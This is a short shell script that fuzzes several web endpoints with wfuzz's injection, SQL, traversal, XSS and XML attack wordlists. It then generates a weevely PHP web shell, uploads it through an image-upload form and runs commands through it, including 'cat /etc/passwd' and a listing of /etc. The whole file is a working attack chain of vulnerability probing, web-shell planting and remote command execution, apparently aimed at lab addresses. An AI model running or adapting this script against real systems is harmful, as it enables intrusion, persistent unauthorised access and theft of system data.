# SPDX-License-Identifier: GPL-2.0-or-later
# Lists of others' attacks, as wfuzz brings them, on parameters of every kind; weevely's agent used through its own client.
lists=/usr/share/wfuzz/wordlist
fuzz() { timeout 150 wfuzz -c --hc 999 -t 4 -z "file,$1" "${@:2}" >/dev/null 2>&1 || true; }
fuzz $lists/Injections/All_attack.txt 'http://203.0.113.31/erreichbar?ziel=FUZZ'
fuzz $lists/Injections/SQL.txt 'http://203.0.113.31/suche?begriff=FUZZ'
fuzz $lists/Injections/SQL.txt 'http://203.0.113.33/suche?begriff=FUZZ'
fuzz $lists/Injections/SQL.txt -d 'usuario=FUZZ&clave=x' http://203.0.113.71/acceso.php
fuzz $lists/Injections/Traversal.txt 'http://203.0.113.31/beleg?dokument=FUZZ'
fuzz $lists/Injections/Traversal.txt 'http://203.0.113.51:8000/planche?fichier=FUZZ'
fuzz $lists/Injections/Traversal.txt 'http://203.0.113.71/foto.php?nombre=FUZZ'
fuzz $lists/Injections/XSS.txt 'http://203.0.113.31/meldung?hinweis=FUZZ'
fuzz $lists/Injections/XSS.txt 'http://203.0.113.91:3000/sok?tekst=FUZZ'
fuzz $lists/Injections/XML.txt -H 'Content-Type: text/xml' -d 'FUZZ' http://203.0.113.31/einlesen
fuzz $lists/vulns/sql_inj.txt 'http://203.0.113.71/barcos.php?eslora=FUZZ'
weevely generate geheimnis /tmp/agent.php
curl -s -F 'bild=@/tmp/agent.php;filename=agent.php' http://203.0.113.31/profilbild >/dev/null
for words in 'id' 'uname -a' 'cat /etc/passwd' ':system_info' ':file_ls /etc'; do
	timeout 20 weevely http://203.0.113.31/ablage/agent.php geheimnis "$words" || true
done
